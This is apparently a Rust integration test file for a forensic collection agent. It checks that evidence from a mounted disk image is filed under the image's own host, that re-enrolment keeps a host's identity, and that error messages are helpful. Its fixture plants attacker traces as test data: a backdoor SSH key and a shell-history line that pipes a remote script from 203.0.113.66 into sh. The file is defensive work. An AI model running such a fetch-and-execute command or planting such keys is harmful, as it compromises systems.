//! Issue #13, the agent's side: results filed under the right host and carrying what they
//! should. An offline collection of a mounted image lands under the image's host (not the
//! workstation that read it), with the homes passwd does not name and the journal files; a
//! machine enrolled twice stays one host; events.jsonl carries the profile's window.

// Test code: a failed unwrap is a failed test, with its message.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use cairn_harness::*;
use serde_json::Value;

const IMAGE_MACHINE_ID: &str = "5eed0000000000000000000000c0ffee";

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, bytes).unwrap();
}

/// Another system's root, as a mounted image shows it.
fn fake_image(root: &Path) {
    write(root, "etc/hostname", b"imaged-web-1\n");
    write(
        root,
        "etc/machine-id",
        format!("{IMAGE_MACHINE_ID}\n").as_bytes(),
    );
    write(
        root,
        "var/lib/cloud/data/instance-id",
        b"i-0abc1234def567890\n",
    );
    write(
        root,
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    write(
        root,
        "var/log/auth.log",
        b"Nov 29 08:01:02 imaged-web-1 sshd[811]: Accepted publickey for alice from 203.0.113.9 port 50022 ssh2\n",
    );
    write(root, "home/alice/.bash_history", b"sudo -i\n");
    // Not in passwd: the account was deleted, its home was not.
    write(
        root,
        "home/ghost/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3Nza attacker@evil\n",
    );
    write(
        root,
        "home/ghost/.bash_history",
        b"curl -s http://203.0.113.66/x | sh\n",
    );
    write(
        root,
        &format!("var/log/journal/{IMAGE_MACHINE_ID}/system.journal"),
        b"LPKSHHRH\0\0\0\0",
    );
}

fn collect_root(agent: &Agent, root: &Path, out: &Path, extra: &[&str]) -> Value {
    let mut cmd = Command::new(bin("cairn-agent").unwrap());
    cmd.env_remove("CAIRN_AGENT_STATE")
        .arg("collect")
        .arg("--state-dir")
        .arg(&agent.state)
        .args(["--profile", "triage", "--reason", "image triage", "--root"])
        .arg(root)
        .arg("--out")
        .arg(out)
        .args(extra);
    let o = run(cmd, Duration::from_secs(180)).unwrap().ok().unwrap();
    assert!(
        o.stdout.contains("imaged-web-1") || extra.contains(&"--host"),
        "{}",
        o.stdout
    );
    serde_json::from_slice(&std::fs::read(out.join("collection.json")).unwrap()).unwrap()
}

fn import(collector: &Collector, dir: &Path) -> Value {
    let d = dir.to_string_lossy().into_owned();
    let out = collector
        .cli_raw(&["import", &d], Duration::from_secs(300))
        .unwrap();
    let v = out
        .json()
        .unwrap_or_else(|_| panic!("{}", out.describe("printed no JSON")));
    let id = v["id"]
        .as_str()
        .or(v["collection_id"].as_str())
        .unwrap_or_else(|| panic!("{}", out.describe("printed no collection id")))
        .to_string();
    collector.show(&id).unwrap()
}

fn api_hosts(collector: &Collector) -> Vec<Value> {
    collector.api_get("/api/v1/hosts").unwrap()["hosts"]
        .as_array()
        .cloned()
        .unwrap()
}

#[test]
fn an_image_collected_offline_is_filed_under_the_images_host() {
    let work = workdir("agent13-image").unwrap();
    // The workstation runs an enrolled agent: its journal is there, its machine id is known.
    let (collector, agent, local) = collector_with_agent(work.path()).unwrap();
    let image = work.path().join("mnt-image");
    fake_image(&image);

    let out = work.path().join("image-collection");
    let rec = collect_root(&agent, &image, &out, &[]);
    assert_eq!(rec["host"]["hostname"], "imaged-web-1", "{rec:#}");
    assert_eq!(rec["host"]["machine_id"], IMAGE_MACHINE_ID);
    assert_eq!(rec["host"]["cloud"]["instance_id"], "i-0abc1234def567890");
    assert_eq!(rec["host"]["hostname_from"], "etc/hostname");
    assert_eq!(rec["host"]["source_root"], image.display().to_string());
    let me = nix::unistd::gethostname().unwrap().into_string().unwrap();
    assert_eq!(rec["host"]["collected_by"]["hostname"], me.as_str());

    let c = import(&collector, &out);
    assert_eq!(c["status"], "sealed", "{}", summary(&c));
    assert_ne!(
        c["host_id"],
        local.as_str(),
        "filed under the workstation: {}",
        summary(&c)
    );
    assert_eq!(c["hostname"], "imaged-web-1");
    let hosts = api_hosts(&collector);
    let img = hosts
        .iter()
        .find(|h| h["id"] == c["host_id"])
        .unwrap_or_else(|| panic!("no host {} in {hosts:#?}", c["host_id"]));
    assert_eq!(img["hostname"], "imaged-web-1");
    assert_eq!(img["machine_id"], IMAGE_MACHINE_ID);
    assert_eq!(img["instance_id"], "i-0abc1234def567890");

    // The image's evidence, none of the workstation's flight recorder.
    assert!(
        item_named(&c, "/var/log/auth.log").is_some(),
        "{}",
        summary(&c)
    );
    assert!(item_named(&c, "events.jsonl").is_none(), "{}", summary(&c));
    // Homes passwd does not name, and the journal.
    for name in [
        "/home/ghost/.ssh/authorized_keys",
        "/home/ghost/.bash_history",
    ] {
        let item = item_named(&c, name).unwrap_or_else(|| panic!("no {name}: {}", summary(&c)));
        assert_eq!(
            item["source"]["details"]["home_found"], "home_dir",
            "{item:#}"
        );
    }
    let alice = item_named(&c, "/home/alice/.bash_history").unwrap();
    assert_eq!(alice["source"]["details"]["home_found"], "both");
    let journal = format!("/var/log/journal/{IMAGE_MACHINE_ID}/system.journal");
    assert!(item_named(&c, &journal).is_some(), "{}", summary(&c));

    // Named by the responder: recorded as given, found again by its machine id.
    let out2 = work.path().join("image-collection-2");
    let rec2 = collect_root(&agent, &image, &out2, &["--host", "web-1-restored"]);
    assert_eq!(rec2["host"]["hostname"], "web-1-restored");
    assert_eq!(rec2["host"]["hostname_from"], "--host");
    let c2 = import(&collector, &out2);
    assert_eq!(c2["host_id"], c["host_id"], "same machine id, same host");
    assert_eq!(
        api_hosts(&collector).len(),
        2,
        "the workstation and the image's host"
    );

    // A profile that captures this running machine is not filed under the image's host.
    let mut cmd = Command::new(bin("cairn-agent").unwrap());
    cmd.env_remove("CAIRN_AGENT_STATE")
        .args(["collect", "--profile", "volatile", "--root"])
        .arg(&image)
        .arg("--out")
        .arg(work.path().join("refused"));
    let refused = run(cmd, CLI_TIMEOUT).unwrap();
    assert!(
        !refused.success() && refused.stderr.contains("use a triage profile with --root"),
        "{}",
        refused.describe("should refuse volatile --root")
    );
}

#[test]
fn enrolling_the_same_machine_again_keeps_its_host() {
    let work = workdir("agent13-enroll").unwrap();
    let collector = Collector::start(work.path()).unwrap();
    let token = collector.token_create(10, "10m").unwrap();
    let enroll = |dir: &str, extra: &[&str]| {
        let state = work.path().join(dir);
        let o = enroll_raw_with(&collector, &state, &token, extra)
            .unwrap()
            .ok()
            .unwrap();
        (state, o.stdout.trim().to_string())
    };
    let (first_state, first) = enroll("state-1", &[]);
    // A reinstall: the state directory is gone, the machine is the same.
    let (second_state, second) = enroll("state-2", &[]);
    assert_eq!(first, second, "re-enrolling gave a new identity");
    let hosts = api_hosts(&collector);
    assert_eq!(hosts.len(), 1, "{hosts:#?}");
    assert_eq!(hosts[0]["id"], first.as_str());

    // The new key is the host's now; the old one no longer is.
    let ping = |state: &Path| {
        let mut cmd = Command::new(bin("cairn-agent").unwrap());
        cmd.env_remove("CAIRN_AGENT_STATE")
            .arg("ping")
            .arg("--state-dir")
            .arg(state);
        run(cmd, CLI_TIMEOUT).unwrap()
    };
    let ok = ping(&second_state);
    assert!(ok.success(), "{}", ok.describe("the re-enrolled agent"));
    let old = ping(&first_state);
    assert!(
        !old.success(),
        "{}",
        old.describe("the replaced key still works")
    );

    // Named by its hostname, it is one host, not an ambiguity.
    let me = nix::unistd::gethostname().unwrap().into_string().unwrap();
    let named = collector
        .api_get(&format!("/api/v1/collections?host={me}"))
        .unwrap();
    assert!(named["collections"].is_array(), "{named}");

    // Asked for, a new identity: a second host.
    let (_, third) = enroll("state-3", &["--new-identity"]);
    assert_ne!(third, first);
    assert_eq!(api_hosts(&collector).len(), 2);
}

#[test]
fn events_jsonl_carries_the_profiles_window_and_says_its_size() {
    let work = workdir("agent13-events").unwrap();
    let (collector, _agent, host) = collector_with_agent(work.path()).unwrap();
    let c = collector
        .collect_wait(
            &host,
            "volatile",
            "events window",
            &[],
            Duration::from_secs(180),
        )
        .unwrap();
    let listed = item_named(&c, "events.jsonl").unwrap_or_else(|| panic!("{}", summary(&c)));
    // The manifest: the details known once the window closed are in it.
    let ev = collector
        .api_get(&format!("/api/v1/items/{}", s(&listed, "id").unwrap()))
        .unwrap();
    let d = &ev["source"]["details"];
    assert_eq!(d["window_secs"], 900, "{ev:#}");
    assert_eq!(d["window_set_by"], "profile volatile");
    assert_eq!(d["bytes"], ev["raw_len"], "{ev:#}");
    assert!(d["window_start"].is_string() && d["window_end"].is_string());
}

#[test]
fn enrolling_against_a_collector_that_is_down_says_what_to_check() {
    let work = workdir("agent13-enroll-down").unwrap();
    let mut collector = Collector::start(work.path()).unwrap();
    let token = collector.token_create(1, "1h").unwrap();
    collector.kill();
    let out = enroll_raw(&collector, &work.path().join("agent-state"), &token).unwrap();
    assert!(!out.success(), "enrolled with no collector: {}", out.stdout);
    let err = out.stderr.to_lowercase();
    assert!(
        err.contains("udp port") && err.contains("cairn-collector serve"),
        "the error does not say what to check: {}",
        out.stderr
    );
    assert!(!out.stderr.contains("stack backtrace"), "{}", out.stderr);
}
